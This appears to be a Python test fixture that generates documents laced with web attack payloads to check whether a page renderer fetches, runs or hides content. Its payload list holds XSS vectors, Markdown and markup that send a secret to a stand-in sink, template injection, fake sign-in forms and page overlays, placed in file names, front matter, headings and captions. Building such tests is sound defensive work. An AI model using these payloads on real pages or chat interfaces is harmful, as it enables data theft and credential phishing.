"""What an attacker would like a page to show: each would fetch, run, cover or ask for a password.

In our own words, after the kinds that are known of such pages: pictures and links of Markdown,
markup in every position, markup that a cleaner turns into other markup, and what covers the page.
"""

from __future__ import annotations

from pathlib import Path

FLAG = "window.owned=1"  # what runs leaves this mark
_PAYLOADS = (
    # Markdown that fetches or leads away
    "![chart](SINK/md-image?q=SECRET)",
    "![chart][c]\n\n[c]: SINK/md-reference?q=SECRET",
    "[![chart](SINK/md-nested)](SINK/md-link)",
    "[your account](javascript:FLAG)",
    "[your account](data:text/html,<script>FLAG</script>)",
    "<SINK/auto-link> and SINK/bare-link",
    # markup that fetches
    '<img src="SINK/img">',
    '<img srcset="SINK/srcset 2x" src="SINK/srcset-src">',
    '<picture><source srcset="SINK/source"><img></picture>',
    '<svg><image href="SINK/svg-image"/><use href="SINK/svg-use#a"/></svg>',
    '<div style="background:url(SINK/css-url)">x</div>',
    "<style>@import 'SINK/css-import'; body{background:url(SINK/css-body)}</style>",
    '<link rel="stylesheet" href="SINK/link"><link rel="dns-prefetch" href="SINK/prefetch">',
    '<video poster="SINK/poster" src="SINK/video" autoplay></video>',
    '<audio src="SINK/audio" autoplay></audio>',
    '<input type="image" src="SINK/input-image">',
    '<table background="SINK/table"><tr><td background="SINK/cell">x</td></tr></table>',
    '<iframe src="SINK/iframe"></iframe>',
    "<iframe srcdoc=\"<img src='SINK/srcdoc'>\"></iframe>",
    '<object data="SINK/object"></object><embed src="SINK/embed">',
    '<meta http-equiv="refresh" content="0;url=SINK/refresh">',
    '<base href="SINK/base/"><img src="relative">',
    '<a href="SINK/ping-link" ping="SINK/ping">read on</a>',
    # markup that runs
    '<script src="SINK/script"></script>',
    "<script>FLAG;fetch('SINK/fetch')</script>",
    "<img src=x onerror=\"FLAG;new Image().src='SINK/onerror'\">",
    "<svg onload=FLAG>",
    "<details open ontoggle=FLAG>x</details>",
    "<input autofocus onfocus=FLAG>",
    '<a href="&#106;avascript:FLAG" style="position:fixed;inset:0">x</a>',
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=FLAG>",
    '<noscript><p title="</noscript><img src=x onerror=FLAG>">',
    "<x-chip data-ask='x' onclick=FLAG tabindex=1 autofocus onfocus=FLAG>x</x-chip>",
    "`</code><img src=x onerror=FLAG>`",
    "```html\n</code></pre><script>FLAG</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=FLAG> | ![x](SINK/cell-image) |",
    "&lt;img src=SINK/entity onerror=FLAG&gt; \\u003cimg src=SINK/escape\\u003e",
    "${FLAG} {{constructor.constructor('FLAG')()}} <%= FLAG %>",
    # markup that covers the page or asks for a password
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
    '<form action="SINK/form"><input type="password" name="p"><button>Sign in</button></form>',
    '<dialog open>Sign in: <input type="password"></dialog>',
    '</div></details></article></div></section><h1 id="layout">Sign in again</h1>',
    '" onmouseover="FLAG" autofocus onfocus="FLAG" x="',
    "$$\\href{javascript:FLAG}{x}\\includegraphics{SINK/latex}$$",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:FLAG"\n```',
)


def payloads(sink: str) -> list[str]:
    """Every payload; what is fetched would be fetched from `sink`."""
    return [text.replace("SINK", sink).replace("FLAG", FLAG) for text in _PAYLOADS]


NAMES = (
    "<img src=x onerror=window.owned=1>.md",
    '" onmouseover="window.owned=1" x=".md',
    "<svg onload=window.owned=1>.txt",
    "&lt;script&gt;window.owned=1&lt;&#47;script&gt;.md",
    "![x](javascript:window.owned=1).md",
    "\u202edm.live.md",
    "${window.owned=1}.html",
)
QUESTION = "May fields of endeavor be excluded by the harbour license?"
ANSWER = "No field of endeavor may be excluded by the harbour license."


PLACES = ("pier", "lighthouse", "dry dock", "ferry", "fish market", "customs house", "crane")


def write_documents(folder: Path, sink: str) -> None:
    """Documents with a payload in every place a page shows: name, title, heading, speaker, text."""
    folder.mkdir()
    attacks = payloads(sink)
    share = len(attacks) // len(NAMES) + 1
    for number, (name, place) in enumerate(zip(NAMES, PLACES, strict=True)):
        inside = attacks[number * share : (number + 1) * share]
        attack = inside[0].splitlines()[0].replace("'", "")
        (folder / name).write_text(
            f"---\ntitle: 'Harbour {place} {attack}'\nkind: license\npublisher: '{attack}'\n"
            f"version: '{attack}'\nstatus: draft\nurl: 'javascript:window.owned=1'\n"
            f"aliases: ['{attack}']\ncolour: '{attack}'\n---\n\n"
            f"# Fields {attack}\n\nAt the {place}: {ANSWER} {attack}\n\n"
            + "\n\n".join(inside)
            + f"\n\nThe {place} keeps its own list of those who may use the software.\n",
            encoding="utf-8",
        )
    (folder / "talk.vtt").write_text(
        "WEBVTT\n\n"
        + "\n\n".join(
            f"00:00:{n:02}.000 --> 00:00:{n + 1:02}.000\n<v {attack.splitlines()[0]}>{ANSWER}"
            f" {attack.splitlines()[0]}"
            for n, attack in enumerate(attacks)
        ),
        encoding="utf-8",
    )
    (folder / "page.html").write_text(
        f"<html><head><title>Harbour {attacks[25]}</title></head><body><h1>Fields {attacks[26]}"
        f"</h1><p>{ANSWER}</p>{''.join(attacks)}<p>On the page: {ANSWER}</p></body></html>",
        encoding="utf-8",
    )
    (folder / f"broken {NAMES[0][:-3]}.pdf").write_bytes(b"%PDF-1.7\nnothing of a PDF")
